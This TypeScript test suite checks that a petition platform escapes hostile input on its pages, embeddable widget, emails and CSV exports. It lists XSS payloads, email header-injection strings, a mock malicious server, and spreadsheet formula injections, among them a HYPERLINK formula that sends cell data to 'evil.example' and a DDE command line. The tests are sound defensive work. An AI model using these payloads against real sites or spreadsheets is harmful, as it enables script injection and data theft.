import assert from 'node:assert/strict';
import { once } from 'node:events';
import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import { join } from 'node:path';
import { before, describe, test } from 'node:test';
import type { Page } from 'puppeteer-core';
import { readConfig } from '../../server/config/config.ts';
import { loadSecret } from '../../server/crypto/keys.ts';
import { listComments, moderate } from '../../server/petitions/moderation.ts';
import { PublicSignatureCipher, publicName } from '../../server/signatures/public-signature.ts';
import { openStorage } from '../../server/storage/open.ts';
import { findInWidget, servePage } from './harness.ts';
import { useStage } from './window.ts';

/** Payloads that once ran in some browser, template, or spreadsheet. Here they set `__ran`. */
const STRINGS = [
  '<script>__ran=1</script>',
  '"><img src=x onerror=__ran=1>',
  "'><svg/onload=__ran=1>",
  '" onfocus="__ran=1" autofocus x="',
  "' onmouseover='__ran=1' x='",
  '` onclick=__ran=1 x=`',
  'javascript:__ran=1//',
  'JaVa&Tab;Script&colon;__ran=1',
  'data:text/html,<script>__ran=1</script>',
  'https://a.example/"onmouseover="__ran=1',
  'https://a.example/?<svg/onload=__ran=1>',
  '</title><script>__ran=1</script>',
  '</style><script>__ran=1</script>',
  '</textarea><img src=x onerror=__ran=1>',
  '</script><script>__ran=1</script>',
  '</option></select><img src=x onerror=__ran=1>',
  '--><img src=x onerror=__ran=1><!--',
  '<![CDATA[<script>__ran=1</script>]]>',
  '<?xml version="1.0"?><script>__ran=1</script>',
  '<math><mi xlink:href="javascript:__ran=1">x',
  '<math><mtext><table><mglyph><style><img src onerror=__ran=1>',
  '<template shadowrootmode=open><img src onerror=__ran=1>',
  '<iframe srcdoc="<script>parent.__ran=1</script>">',
  '<base href="javascript:/"><a href="&#1;javascript:__ran=1">',
  '<form action="javascript:__ran=1"><button>x',
  '<meta http-equiv=refresh content="0;javascript:__ran=1">',
  '{{constructor.constructor("__ran=1")()}}',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: in case something interprets it as one
  '${__ran=1}',
  '<%= __ran=1 %> #{__ran=1} [[__ran=1]]',
  '?lit$012345678$ <!--?lit$--> $lit$',
  '&lt;script&gt;__ran=1&lt;/script&gt;',
  '&#60;img src=x onerror=__ran=1&#x3e;',
  '%3Cscript%3E__ran=1%3C/script%3E +ADw-script+AD4-',
  '\\u003cscript\\u003e__ran=1 \\x3csvg/onload=__ran=1\\x3e',
  '$& $1 $` #a#b# $$',
  '\u200f<b>מרים</b>\u200e',
  '=HYPERLINK("https://evil.example/?"&A1)',
  "+1+cmd|' /C calc'!A0",
  '-2+3;=1+1',
  '@SUM(A1)',
];
const SHORT = ['<svg onload=__ran=1>', '"><svg onload=a()>', '{{__ran=1}}', '=1+1', "'-__ran-'"];
/** What would end a header line of an email, or reverse the text after it. */
const REFUSED = ['Ana\r\nBcc: eve@example.org', '\u202e<script>', '\u2066=1', 'a\u0000b', 'a\u2028__ran=1'];

/** Combined as far as they fit, to have fewer pages to check: into a partner's name, and two into a creator's. */
const PARTS: string[] = [];
for (const string of STRINGS) {
  const longer = `${PARTS.at(-1)} ${string}`;
  if (PARTS.length > 0 && longer.length <= 59) PARTS[PARTS.length - 1] = longer;
  else PARTS.push(string);
}
const PAIRS = PARTS.flatMap((part, index) =>
  index % 2 ? [] : [[part, PARTS[index + 1] ?? '=1+1'] as const],
);
const GROUPS = PAIRS.map((pair) => pair.join(' '));

/** A petition made of these strings, in two languages. The first has all of them, one per paragraph. */
const PETITIONS = GROUPS.map((group, index) => ({
  slug: `strings-${index}`,
  creator: group,
  texts: {
    en: { title: group, text: index === 0 ? STRINGS.join('\n\n') : group },
    es: { title: `ES ${group}`, text: `ES ${group}` },
  },
  fields: {
    familyName: 'optional',
    postalCode: 'optional',
    comment: 'optional',
    display: 'optional',
    partnerContact: 'optional',
  },
  partners: { p: PAIRS[index]![0], q: PAIRS[index]![1] },
}));
const paragraphs = (index: number) => (index === 0 ? STRINGS : [GROUPS[index]!]);
const signer = (index: number) => ({
  givenName: `${GROUPS[index]} Jess${index}`,
  // From the next group, so that half of the forms contain all of them.
  familyName: GROUPS[(index + 1) % GROUPS.length]!,
  postalCode: SHORT[index % SHORT.length]!,
  comment: `${GROUPS[index]}\n\n${GROUPS[index]}`,
});

describe('any text from organizers or signers', () => {
  const stage = useStage(true, { LIMITS: 'off' });
  before(() => stage.load(PETITIONS));

  /** Without the Content-Security-Policy, so that only escaping keeps a string from running. */
  async function openTab(): Promise<Page> {
    const page = await stage.window.newPage();
    await page.setBypassCSP(true);
    await page.setCacheEnabled(false);
    page.on('dialog', (dialog) => {
      throw new Error(`a dialog says ${dialog.message()}`);
    });
    await page.evaluateOnNewDocument('globalThis.__name = (made) => made');
    return page;
  }

  async function assertOurs(page: Page, where: string) {
    assert.deepEqual(await page.evaluate(strangers), [], where);
  }

  const emailTo = async (to: string) => {
    for (let tries = 0; tries < 400; tries++) {
      const received = stage.emails.find((each) => each.to === to);
      if (received) return received;
      await new Promise((resolve) => setTimeout(resolve, 25));
    }
    throw new Error(`no email arrived for ${to}`);
  };
  const post = (path: string, body: object) =>
    fetch(stage.petitions + path, {
      method: 'POST',
      headers: { 'Content-Type': 'application/json' },
      body: JSON.stringify(body),
    });
  const confirm = async (email: string) => {
    const { links } = await emailTo(email);
    assert.equal((await fetch(links.confirm!, { method: 'POST' })).status, 200);
  };

  test('the check itself finds injected markup', async () => {
    const page = await openTab();
    await page.goto(`${stage.petitions}/p/strings-1`);
    await assertOurs(page, 'untouched');
    for (const string of [
      '<img src=x onerror=__ran=1>',
      '<a href="javascript:__ran=1">x</a>',
      '<p onclick="__ran=1">x</p>',
      '<form action="javascript:__ran=1"></form>',
      '<math></math>',
    ]) {
      const found = await page.evaluate(
        async (markup, look) => {
          const inShadow = document.querySelector('main')!.appendChild(document.createElement('div'));
          inShadow.attachShadow({ mode: 'open' }).innerHTML = markup;
          const seen = new Function(`return (${look})()`)() as string[];
          inShadow.remove();
          return seen;
        },
        string,
        String(strangers),
      );
      assert.ok(found.length > 0, string);
    }
    await page.waitForFunction(() => (window as unknown as { __ran?: number }).__ran === 1);
    assert.deepEqual(await page.evaluate(strangers), ['something ran']);
    await page.close();
  });

  test('is shown as text on hosted pages, forms, thanks, in emails, and on the pages emails link to', async () => {
    const page = await openTab();
    const waitUntil = 'domcontentloaded';
    const textOf = (selector: string) =>
      page.evaluate((wanted) => document.querySelector(wanted)!.textContent, selector);
    const press = (selector: string) =>
      Promise.all([
        page.waitForNavigation({ waitUntil }),
        page.evaluate((wanted) => document.querySelector<HTMLElement>(wanted)!.click(), selector),
      ]);
    for (const [index, group] of GROUPS.entries()) {
      const email = `page-${index}@example.org`;
      const where = `${stage.petitions}/p/strings-${index}`;
      if (index < 3) {
        await page.goto(`${where}?lang=es`);
        await assertOurs(page, 'the hosted page in Spanish');
        assert.equal(await textOf('h1'), `ES ${group}`);
      }
      await page.goto(`${where}?partner=p`, { waitUntil });
      await assertOurs(page, 'the hosted page');
      const shown = await page.evaluate(() => ({
        title: document.title,
        meta: document.querySelector<HTMLMetaElement>('meta[property="og:title"]')!.content,
        h1: document.querySelector('h1')!.textContent,
        creator: document.querySelector('.creator')!.textContent,
        text: [...document.querySelectorAll('.text p')].map(({ textContent }) => textContent),
        box: document.querySelector('[name=partnerContact] + span')!.textContent,
      }));
      const text = paragraphs(index);
      const box = `${PAIRS[index]![0]} may email me.`;
      assert.deepEqual(
        { ...shown, title: shown.title.trim() },
        { title: group, meta: group, h1: group, creator: `Created by ${group}`, text, box },
      );

      if (index % 2) continue;
      // What was typed comes back with an error.
      const typed = { ...signer(index), email: `${group}@x` };
      const fill = (values: object) =>
        page.evaluate((all) => {
          for (const [name, value] of Object.entries(all)) {
            document.querySelector<HTMLInputElement>(`[name=${name}]`)!.value = value;
          }
          document.querySelector('form')!.noValidate = true;
        }, values);
      await fill({ ...typed, partner: 'q' });
      await press('form .button');
      await assertOurs(page, 'the form that comes back');
      assert.equal(await textOf('[name=partnerContact] + span'), `${PAIRS[index]![1]} may email me.`);
      const kept = await page.evaluate(() =>
        Object.fromEntries(
          new FormData(document.querySelector('form')!) as unknown as Iterable<[string, string]>,
        ),
      );
      assert.equal(kept.comment?.replaceAll('\r\n', '\n'), typed.comment);
      for (const name of ['givenName', 'familyName', 'postalCode', 'email'] as const) {
        // An email field trims, and nothing else.
        assert.equal(kept[name], name === 'email' ? typed[name].trim() : typed[name]);
      }
      await fill({ email });
      await press('form .button');
      await assertOurs(page, 'the thanks');
      const whatsApp = await page.evaluate(() => document.querySelector<HTMLAnchorElement>('.share a')!.href);
      assert.ok(new URL(whatsApp).searchParams.get('text')!.includes(`“${group}”`));
    }
    for (const [index, group] of GROUPS.entries()) {
      if (index % 2) continue;
      const { mail, links, source } = await emailTo(`page-${index}@example.org`);
      assert.deepEqual(
        mail.headers.map(({ key }) => key).filter((key) => !HEADERS.has(key)),
        [],
      );
      assert.equal(mail.subject, 'Please confirm your signature');
      assert.ok(mail.text!.includes(`\n    ${group}\n`), mail.text);
      assert.doesNotMatch(mail.text! + mail.html + source, /Jess/, 'nothing that was typed');
      await page.setContent(mail.html!);
      await assertOurs(page, 'the email');
      assert.equal(await textOf('p[lang]'), group);

      // Their pages are built the same way, so one of the two is enough, except for the first.
      const { confirm, withdraw } = links;
      for (const link of index === 0 ? [confirm!, withdraw!] : [index % 4 ? confirm! : withdraw!]) {
        await page.goto(link, { waitUntil });
        await assertOurs(page, 'an email’s page');
        assert.equal(await textOf('.creator'), group);
        if (index > 0) continue;
        await press('form button');
        await assertOurs(page, 'an email’s page after its button');
        assert.equal(await textOf('.creator'), group);
      }
    }
    await page.goto((await emailTo('page-0@example.org')).links.confirm!);
    await assertOurs(page, 'the page of a link that is used up');
    await page.close();
  });

  test('is shown as text in the widget: text, form, errors, partner’s box, and thanks', async () => {
    const page = await openTab();
    const site = await servePage(`<!doctype html><html lang="en">
      <script type="module" src="${stage.petitions}/v1/petition-widget.js"></script>
      ${GROUPS.map((_, index) => `<petition-widget petition="strings-${index}" partner="p"></petition-widget>`).join('')}`);
    await page.goto(site.url);
    const all = (selector: string) =>
      page.waitForFunction(
        (wanted) =>
          [...document.querySelectorAll('petition-widget')].every((each) =>
            each.shadowRoot?.querySelector(wanted),
          ),
        {},
        selector,
      );
    const texts = (selector: string) =>
      page.$$eval(
        'petition-widget',
        (widgets, wanted) => widgets.map((each) => each.shadowRoot!.querySelector(wanted)?.textContent),
        selector,
      );
    const pressAll = () =>
      page.$$eval('petition-widget', (widgets) => {
        for (const each of widgets) each.shadowRoot!.querySelector<HTMLElement>('form > button')!.click();
      });
    await all('form');
    await assertOurs(page, 'the form');
    assert.deepEqual(await texts('[part=title]'), GROUPS);
    assert.deepEqual(await texts('[part=creator] bdi'), GROUPS);
    for (const [which, code] of ['p', 'q'].entries()) {
      await page.$$eval(
        'petition-widget',
        (widgets, partner) =>
          Promise.all(
            widgets.map((each) => {
              each.partner = partner;
              return each.updateComplete;
            }),
          ),
        code,
      );
      assert.deepEqual(
        await texts('label:has([name=partnerContact]) bdi'),
        PAIRS.map((pair) => pair[which]),
      );
      await assertOurs(page, 'a partner’s box');
    }
    assert.deepEqual(
      await page.$eval('petition-widget', (first) =>
        [...first.shadowRoot!.querySelectorAll('[part=text] p')].map(({ textContent }) => textContent),
      ),
      STRINGS,
    );
    await pressAll();
    await all('[aria-invalid=true]');
    await assertOurs(page, 'the errors');
    await page.$$eval(
      'petition-widget',
      (widgets, signers) => {
        for (const [index, widget] of widgets.entries()) {
          for (const [name, value] of Object.entries(signers[index]!)) {
            const field = widget.shadowRoot!.querySelector<HTMLInputElement>(`[name=${name}]`)!;
            field.value = value;
            field.dispatchEvent(new Event('change', { bubbles: true }));
          }
          widget.shadowRoot!.querySelector<HTMLInputElement>('[name=display]')!.checked = true;
        }
      },
      GROUPS.map((_, index) => ({ ...signer(index), email: `widget-${index}@example.org` })),
    );
    await pressAll();
    await all('[part=thanks]');
    await assertOurs(page, 'the thanks');
    assert.deepEqual(
      await texts('[part=thanks] h3 bdi'),
      GROUPS.map((_, index) => signer(index).givenName),
    );

    await page.$$eval('petition-widget', (widgets) => {
      for (const each of widgets) each.lang = 'es';
    });
    await page.waitForFunction(() =>
      [...document.querySelectorAll('petition-widget')].every((each) =>
        each.shadowRoot!.querySelector('[part=title]')?.textContent?.startsWith('ES '),
      ),
    );
    await assertOurs(page, 'in Spanish');
    assert.deepEqual(
      await texts('[part=title]'),
      GROUPS.map((group) => `ES ${group}`),
    );
    await page.close();
    site.close();
  });

  test('is shown as text among the latest signatures, with the comment once approved', async () => {
    for (const index of GROUPS.keys()) await confirm(`widget-${index}@example.org`);
    await approveAll(stage.dataDir);
    // One publish interval, and the cache lifetime.
    await new Promise((resolve) => setTimeout(resolve, 2_200));
    const page = await openTab();
    const site = await servePage(`<!doctype html><html lang="en">
      <script type="module" src="${stage.petitions}/v1/petition-widget.js"></script>
      ${GROUPS.map((_, index) => `<petition-widget petition="strings-${index}"></petition-widget>`).join('')}`);
    await page.goto(site.url);
    await page.waitForFunction(() =>
      [...document.querySelectorAll('petition-widget')].every((each) => each.shadowRoot?.querySelector('q')),
    );
    await assertOurs(page, 'the latest in the widget');
    const shown = (selector: string) =>
      page.$$eval(selector, (found) => found.map(({ textContent }) => textContent));
    const comments = GROUPS.map((_, index) => signer(index).comment);
    assert.deepEqual(await shown('petition-widget >>> q'), comments);
    const names = GROUPS.map((_, index) => publicName(signer(index).givenName, signer(index).familyName));
    assert.deepEqual(await shown('petition-widget >>> [part=latest] span'), names);
    for (const index of [0, 1, 2]) {
      await page.goto(`${stage.petitions}/p/strings-${index}`, { waitUntil: 'domcontentloaded' });
      await assertOurs(page, 'the latest on the hosted page');
      assert.deepEqual(await shown('.latest strong'), [names[index]]);
      assert.deepEqual(await shown('.latest q'), [comments[index]]);
    }
    await page.close();
    site.close();
  });

  test('has no effect in the widget’s attributes', async () => {
    const page = await openTab();
    // Nothing they name may be requested over the network.
    await page.setRequestInterception(true);
    page.on('request', (request) => {
      if (request.url().includes('.example')) request.abort();
      else request.continue();
    });
    const site = await servePage(`<!doctype html><html lang="en">
      <script type="module" src="${stage.petitions}/v1/petition-widget.js"></script><body></body>`);
    await page.goto(site.url);
    await page.evaluate((strings) => {
      for (const string of strings) {
        for (const name of ['petition', 'partner', 'lang', 'server']) {
          const widget = document.createElement('petition-widget');
          widget.setAttribute('petition', 'strings-1');
          widget.setAttribute(name, string);
          document.body.append(widget);
        }
      }
    }, STRINGS);
    await page.waitForFunction(() =>
      [...document.querySelectorAll('petition-widget')].every((each) =>
        each.shadowRoot?.querySelector('[part=base]'),
      ),
    );
    await assertOurs(page, 'attributes');
    await page.close();
    site.close();
  });

  test('has no effect when a malicious server sends it', async () => {
    const page = await openTab();
    const template = { _$litType$: 1, strings: ['<img src=x onerror=__ran=1>'], values: [] };
    const petition = await (await fetch(`${stage.petitions}/v1/petitions/strings-1`)).json();
    const evil = createServer((request, response) => {
      const [, change] = /petitions\/(\d)/.exec(request.url!)!;
      const changes = [
        { url: 'javascript:__ran=1//' },
        { title: template },
        { text: 'https://a.example/', creator: template },
        {
          consent: { version: '1', text: template, boxes: { display: template, partnerContact: template } },
          partners: { p: template },
        },
      ];
      response.writeHead(200, { 'Access-Control-Allow-Origin': '*', 'Content-Type': 'application/json' });
      response.end(JSON.stringify({ ...petition, ...changes[Number(change)] }));
    }).listen(0, '127.0.0.1');
    await once(evil, 'listening');
    const { port } = evil.address() as AddressInfo;
    const site = await servePage(`<!doctype html><html lang="en">
      <script type="module" src="${stage.petitions}/v1/petition-widget.js"></script>
      ${[0, 1, 2, 3].map((each) => `<petition-widget server="http://127.0.0.1:${port}" petition="${each}" partner="p"></petition-widget>`).join('')}`);
    await page.goto(site.url);
    await page.waitForFunction(() =>
      document.querySelector('petition-widget')?.shadowRoot?.querySelector('form'),
    );
    await page.waitForNetworkIdle();
    await page.$$eval('petition-widget >>> a', (links) => {
      for (const link of links) link.click();
    });
    await assertOurs(page, 'a harmful server');
    await page.close();
    site.close();
    evil.close();
    evil.closeAllConnections();
  });

  test('is refused as a partner code, a language, or a line with breaks, and never repeated', async () => {
    const page = await openTab();
    const path = '/v1/petitions/strings-1/signatures';
    for (const string of [...STRINGS, ...REFUSED]) {
      const right = { givenName: 'Ana', email: 'refused@example.org' };
      const wrong: object[] = [
        { ...right, partner: string },
        { ...right, lang: string },
      ];
      wrong.push({ ...right, country: string }, { ...right, email: `${string}@example.org\n` });
      if (REFUSED.includes(string)) {
        wrong.push({ ...right, givenName: string }, { ...right, familyName: string });
        wrong.push({ ...right, comment: `x${string.replace('\r\n', '\u0085')}` });
      }
      for (const sent of wrong) {
        const answer = await post(path, sent);
        const body = await answer.text();
        if ('email' in sent && sent.email !== right.email && answer.status === 202) continue;
        assert.equal(answer.status, 422, JSON.stringify(sent));
        assert.ok(!body.includes(string) && !body.includes('__ran'), body);
      }
    }
    const everything = encodeURIComponent(STRINGS.join(' '));
    for (const address of [
      `/p/strings-1?partner=${everything}&lang=${everything}`,
      `/p/${everything}`,
      `/confirm/${everything}?lang=${everything}`,
      `/withdraw/${everything}`,
    ]) {
      await page.goto(stage.petitions + address);
      await assertOurs(page, address);
      assert.doesNotMatch(await page.content(), address.includes('strings-1') ? /lang=[^e"]/ : /__ran/);
    }
    const entries = REFUSED.map((title, index) => ({
      ...PETITIONS[0],
      slug: `refused-${index}`,
      texts: { en: { title, text: 'x' } },
    }));
    await assert.rejects(stage.load(entries), ({ stderr }: { stderr: string }) => {
      for (const { slug } of entries) assert.ok(stderr.includes(`"${slug}"): texts.en.title`), stderr);
      return true;
    });
    await page.close();
  });

  test('is exported as written, with an apostrophe where a spreadsheet would run it', async () => {
    const answers = await Promise.all(
      STRINGS.map((string, index) =>
        post('/v1/petitions/strings-0/signatures', {
          ...signer(0),
          givenName: string,
          familyName: string,
          comment: `${string}\n${string}`,
          email: `list-${index}@example.org`,
        }),
      ),
    );
    for (const { status } of answers) assert.equal(status, 202);
    for (const index of STRINGS.keys()) await confirm(`list-${index}@example.org`);
    const exported = (format: string) =>
      stage.command('export', 'strings-0', '--identity', join(stage.dataDir, 'identity'), '--format', format);
    const [lines, csv] = await Promise.all([exported('ndjson'), exported('csv')]);
    const written = new Map(STRINGS.map((string, index) => [`list-${index}@example.org`, string]));
    const objects = lines
      .trimEnd()
      .split('\n')
      .map((line) => JSON.parse(line))
      .filter(({ email }) => written.has(email));
    const [head, ...all] = parseCsv(csv.replace(/^\ufeff/, ''));
    // Someone signed through the widget too.
    const rows = all.filter((row) => written.has(row[head!.indexOf('email')]!));
    assert.deepEqual(new Set(objects.map(({ email }) => email)), new Set(written.keys()));
    assert.equal(rows.length, STRINGS.length);
    for (const record of objects) {
      const string = written.get(record.email)!.trim();
      const { givenName, familyName, comment } = record;
      assert.deepEqual([givenName, familyName, comment], [string, string, `${string}\n${string}`]);
    }
    for (const row of rows) {
      const cells = Object.fromEntries(head!.map((name, index) => [name, row[index]!]));
      const string = written.get(cells.email!)!;
      // Wherever some spreadsheet starts a cell: at the beginning, after a semicolon, or after a line break.
      const guarded = (text: string) => text.replace(/(?<=^|[;\n])(?=[=+\-@])/g, "'");
      assert.equal(cells.givenName, guarded(string));
      assert.equal(cells.familyName, guarded(string));
      assert.equal(cells.comment, guarded(`${string}\n${string}`));
    }
  });

  test('is shown as text in the outcome of a closed petition, on the hosted page and in the widget', async () => {
    const late = 'late@example.org';
    assert.equal(
      (await post('/v1/petitions/strings-0/signatures', { ...signer(0), email: late })).status,
      202,
    );
    const { links } = await emailTo(late);
    await stage.command('close', 'strings-0', `--outcome=${STRINGS.join('\n\n')}`, '--lang', 'en');
    const page = await openTab();
    do await page.goto(`${stage.petitions}/p/strings-0`);
    while (await page.$('form'));
    await assertOurs(page, 'the closed page');
    const outcome = (selector: string) =>
      page.$$eval(selector, (found) => found.map(({ textContent }) => textContent));
    assert.deepEqual(await outcome('#sign .text p'), STRINGS);
    await page.goto(links.confirm!);
    await assertOurs(page, 'the email’s page of a closed petition');
    const site = await servePage(`<!doctype html><html lang="en">
      <script type="module" src="${stage.petitions}/v1/petition-widget.js"></script>
      <petition-widget petition="strings-0"></petition-widget>`);
    await page.goto(site.url);
    await findInWidget(page, '[part=closed]');
    await assertOurs(page, 'the closed widget');
    assert.deepEqual(await outcome('petition-widget >>> [part=closed] p'), STRINGS);
    await page.close();
    site.close();
  });
});

/** Approves every comment, as `petitions comments` does. */
async function approveAll(dataDir: string): Promise<void> {
  const storage = await openStorage(`sqlite:${join(dataDir, 'petitions.db')}`);
  try {
    const { config, secrets } = readConfig({ DATA_DIR: dataDir });
    const seal = new PublicSignatureCipher(await loadSecret(config, secrets, storage));
    for (const { id } of await storage.db.selectFrom('petition').select('id').execute()) {
      const comments = await listComments(storage, seal, id);
      if (comments.length === 0) continue;
      await moderate(storage, seal, id, new Map(comments.map(({ handle }) => [handle, 'approve'])));
    }
  } finally {
    await storage.close();
  }
}

/** The headers of an email. Nothing else may be added to them. */
const HEADERS = new Set(
  `from to subject date message-id mime-version content-type content-transfer-encoding auto-submitted
  x-auto-response-suppress list-unsubscribe list-unsubscribe-post x-padding`.split(/\s+/),
);

/** Runs in the page. Finds everything our templates don't create, in light and shadow DOM. */
function strangers(): string[] {
  const elements = new Set(
    `html head meta title link style body div nav span a bdi main article section header footer h1 h2 h3 p ul li strong
    small q progress form label input select option textarea button slot details summary petition-widget`.split(
      /\s+/,
    ),
  );
  const attributes = new Set(
    `lang dir charset name content property rel hreflang href class id for type value autocomplete maxlength max method novalidate
    action rows tabindex role required selected checked readonly part target style media pattern
    petition partner server`.split(/\s+/),
  );
  const found: string[] = [];
  const look = (root: Document | ShadowRoot) => {
    for (const element of root.querySelectorAll('*')) {
      // The partner's own script tag, which loads the widget.
      const isOurScript = element.matches('head > script[type=module][src$="/v1/petition-widget.js"]:empty');
      if (isOurScript) continue;
      const { localName } = element;
      if (!elements.has(localName) || element.namespaceURI !== 'http://www.w3.org/1999/xhtml') {
        found.push(`<${localName}>`);
      }
      for (const { name, value } of element.attributes) {
        if (!attributes.has(name) && !name.startsWith('aria-')) found.push(`<${localName} ${name}>`);
        const isAddress = name === 'href' || name === 'action';
        if (isAddress && !/^(?:https?|mailto):$/.test(new URL(value, document.baseURI).protocol)) {
          // An email is on no page, so nothing in it is relative.
          if (!value.startsWith('#')) found.push(`<${localName} ${name}="${value}">`);
        }
      }
      if (element.shadowRoot) look(element.shadowRoot);
    }
  };
  look(document);
  if ('__ran' in window) found.push('something ran');
  return found;
}

/** Rows of cells by RFC 4180. Anything else throws. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [[]];
  const cell = /(?:"((?:[^"]|"")*)"|([^",\r\n]*))(,|\r\n|$)/y;
  while (cell.lastIndex < text.length) {
    const [, quoted, bare, end] = cell.exec(text) ?? assert.fail('this is no CSV');
    rows.at(-1)!.push(quoted?.replaceAll('""', '"') ?? bare!);
    if (end !== ',') rows.push([]);
  }
  return rows.slice(0, -1);
}
